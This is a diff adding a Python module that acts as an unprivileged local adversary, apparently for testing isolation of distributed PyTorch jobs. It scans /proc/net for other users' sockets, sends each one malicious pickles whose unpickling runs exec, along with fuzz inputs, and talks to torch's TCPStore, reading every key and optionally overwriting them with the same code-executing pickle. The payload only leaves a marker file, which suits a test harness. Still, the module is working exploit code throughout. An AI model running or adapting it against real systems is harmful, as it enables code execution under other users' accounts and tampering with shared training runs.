@@ -1,0 +1,223 @@
+"""What an account without rights can try against the listeners of others: see adversary.py. Stdlib only."""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import pickle
+import socket
+import struct
+import time
+from concurrent.futures import ThreadPoolExecutor
+from typing import TYPE_CHECKING, Any, NamedTuple
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+LISTENING = "0A"
+ACCEPTS = "00010000"  # a unix socket that listens
+SHOOTERS = 8
+FAST = 0.03
+PATIENCE = 0.5
+LARGEST = 1 << 16
+# torch/csrc/distributed/c10d/TCPStoreBackend.hpp
+VALIDATE, SET, GET, ADD, CHECK, NUMBER, DELETE, APPEND = 0, 1, 3, 4, 5, 7, 8, 9
+LIST = 17
+MAGIC = 0x3C85F7CE
+THERE = b"\0"
+
+
+class Listener(NamedTuple):
+    """A socket of somebody else's."""
+
+    kind: str
+    address: str
+    port: int
+    inode: str
+
+
+class Payload:
+    """What runs where it is unpickled."""
+
+    def __init__(self, text: str) -> None:
+        self.text = text
+
+    def __reduce__(self) -> tuple[Any, tuple[str]]:
+        return exec, (self.text,)
+
+
+def address_of(text: str) -> str:
+    """An address of /proc/net, as it is spoken to from here."""
+    words = [struct.pack("=I", int(text[at : at + 8], 16)) for at in range(0, len(text), 8)]
+    raw = b"".join(words)
+    shown = socket.inet_ntop(socket.AF_INET if len(raw) == 4 else socket.AF_INET6, raw)
+    return {"0.0.0.0": "127.0.0.1", "::": "::1"}.get(shown, shown)  # noqa: S104 (compared)
+
+
+def bound(me: int) -> Iterator[Listener]:
+    """Every socket of somebody else's that waits for others."""
+    for kind in ("tcp", "tcp6", "udp", "udp6"):
+        with contextlib.suppress(OSError), open(f"/proc/net/{kind}") as table:
+            for line in table.read().splitlines()[1:]:
+                word = line.split()
+                where, port = word[1].split(":")
+                if int(word[7]) != me and (word[3] == LISTENING or kind.startswith("udp")):
+                    yield Listener(kind, address_of(where), int(port, 16), word[9])
+    with contextlib.suppress(OSError), open("/proc/net/unix") as table:
+        for line in table.read().splitlines()[1:]:
+            word = line.split(None, 7)
+            if len(word) == 8 and word[7].startswith("/") and word[3] == ACCEPTS:
+                yield Listener("unix", word[7], 0, word[6])
+
+
+def framed(raw: bytes) -> bytes:
+    """Bytes as torch's store sends them."""
+    return struct.pack("=Q", len(raw)) + raw
+
+
+class Store:
+    """As much of a client of torch's store as an intruder needs; torch's own takes seconds to load."""
+
+    def __init__(self, address: str, port: int) -> None:
+        self.sock = socket.create_connection((address, port), timeout=PATIENCE)
+        self.sock.sendall(bytes([VALIDATE]) + struct.pack("=I", MAGIC))
+
+    def exactly(self, size: int) -> bytes:
+        """So many bytes of an answer."""
+        found = b""
+        while len(found) < size:
+            more = self.sock.recv(size - len(found))
+            if not more:
+                raise ConnectionError("the store hung up")
+            found += more
+        return found
+
+    def has(self, key: str) -> bool:
+        """Whether a key is there."""
+        self.sock.sendall(bytes([CHECK]) + struct.pack("=Q", 1) + framed(key.encode()))
+        return self.exactly(1) == THERE
+
+    def get(self, key: str) -> bytes:
+        """A key's value."""
+        self.sock.sendall(bytes([GET]) + framed(key.encode()))
+        return self.exactly(min(LARGEST, struct.unpack("=Q", self.exactly(8))[0]))
+
+    def set(self, key: str, value: bytes) -> None:
+        """Give a key another value."""
+        self.sock.sendall(bytes([SET]) + framed(key.encode()) + framed(value))
+
+    def delete(self, key: str) -> None:
+        """Take a key away."""
+        self.sock.sendall(bytes([DELETE]) + framed(key.encode()))
+        self.exactly(8)
+
+    def number(self) -> int:
+        """How many keys there are."""
+        self.sock.sendall(bytes([NUMBER]))
+        return int(struct.unpack("=q", self.exactly(8))[0])
+
+    def names(self) -> list[str]:
+        """Every key, where this torch tells them."""
+        self.sock.sendall(bytes([LIST]))
+        count = struct.unpack("=Q", self.exactly(8))[0]
+        sizes = (struct.unpack("=Q", self.exactly(8))[0] for _ in range(min(count, 1000)))
+        return [self.exactly(min(LARGEST, size)).decode("utf-8", "replace") for size in sizes]
+
+
+class Network:
+    """Every listener, as soon as it is there."""
+
+    def __init__(
+        self,
+        settings: dict[str, Any],
+        me: int,
+        say: Callable[..., None],
+        told: Callable[[str, str, bytes], None],
+    ) -> None:
+        self.settings, self.me, self.say, self.told = settings, me, say, told
+
+    def payload(self, name: str) -> bytes:
+        """A pickle that leaves a mark of whoever loads it."""
+        won = self.settings["won"]
+        text = (
+            f"import os\nif os.getuid() != {self.me}:"
+            f" os.close(os.open('{won}/pickle-{name}-uid%d-pid%d' % (os.getuid(), os.getpid()), 65))"
+        )
+        return pickle.dumps(Payload(text))
+
+    def shots(self, name: str) -> Iterator[bytes]:
+        """What a parser might trip over, or run."""
+        raw = self.payload(name)
+        yield raw
+        yield struct.pack("<Q", len(raw)) + raw
+        yield struct.pack("!I", len(raw)) + raw
+        yield os.urandom(64)
+        yield b"\xff" * 64
+        yield b"\0" * 64
+        yield b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"
+        yield b"stop\n"
+        yield b"fullmesh-client/1 el1 00 00 16777216\n"
+        validated = bytes([VALIDATE]) + struct.pack("=I", MAGIC)
+        yield validated + bytes([SET]) + struct.pack("=Q", 1 << 62)
+        yield validated + bytes([250])
+        # Gloo: the number of the pair that is waited for
+        yield from (struct.pack("=q", pair) + b"\x7f" * 48 for pair in (0, 1, 2))
+
+    def listeners(self) -> None:
+        """Shoot at what is new."""
+        known: set[str] = set()
+        with ThreadPoolExecutor(SHOOTERS) as pool:
+            while True:
+                for one in list(bound(self.me)):
+                    if one.inode not in known:
+                        known.add(one.inode)
+                        pool.submit(self.shoot, one)
+                time.sleep(FAST)
+
+    def shoot(self, one: Listener) -> None:
+        """All shots at one listener, each by a connection of its own."""
+        name = f"{one.kind}-{one.port}"
+        for number, shot in enumerate(self.shots(name)):
+            with contextlib.suppress(OSError, ValueError):
+                answer = self.send(one, shot)
+                if number == 0:
+                    self.say("spoke to", f"{one.kind} {one.address} {one.port}")
+                self.told("answer", f"{one.kind} {one.address} {one.port}", answer)
+
+    @staticmethod
+    def send(one: Listener, shot: bytes) -> bytes:
+        """One shot, and what comes back."""
+        family = socket.AF_INET6 if one.kind.endswith("6") else socket.AF_INET
+        family = socket.AF_UNIX if one.kind == "unix" else family
+        kind = socket.SOCK_DGRAM if one.kind.startswith("udp") else socket.SOCK_STREAM
+        with socket.socket(family, kind) as sock:
+            sock.settimeout(PATIENCE)
+            sock.connect(one.address if one.kind == "unix" else (one.address, one.port))
+            sock.sendall(shot)
+            return sock.recv(LARGEST)
+
+    def stores(self) -> None:
+        """Speak to torch's store wherever one may be, for as long as it is there."""
+        while True:
+            for address, port in self.settings["stores"]:
+                with contextlib.suppress(OSError, struct.error):
+                    self.talk(address, port)
+            time.sleep(FAST)
+
+    def talk(self, address: str, port: int) -> None:
+        """Ask for all that a run of torch's keeps there; where that is wanted, change it."""
+        store = Store(address, port)
+        where = f"{address} {port}"
+        with store.sock:
+            self.say("store counted", where, keys=store.number())
+            keys = [key for key in self.settings["keys"] if store.has(key)]
+            with contextlib.suppress(OSError, struct.error):
+                keys += [key for key in Store(address, port).names() if key not in keys]
+            for key in keys:
+                self.say("store read", f"{where} {key}", text=repr(store.get(key)[:200]))
+            if not self.settings["disturb"]:
+                return
+            for key in keys:
+                store.set(key, self.payload("store"))
+                self.say("store wrote", f"{where} {key}")
+            store.set("/adversary", self.payload("store"))
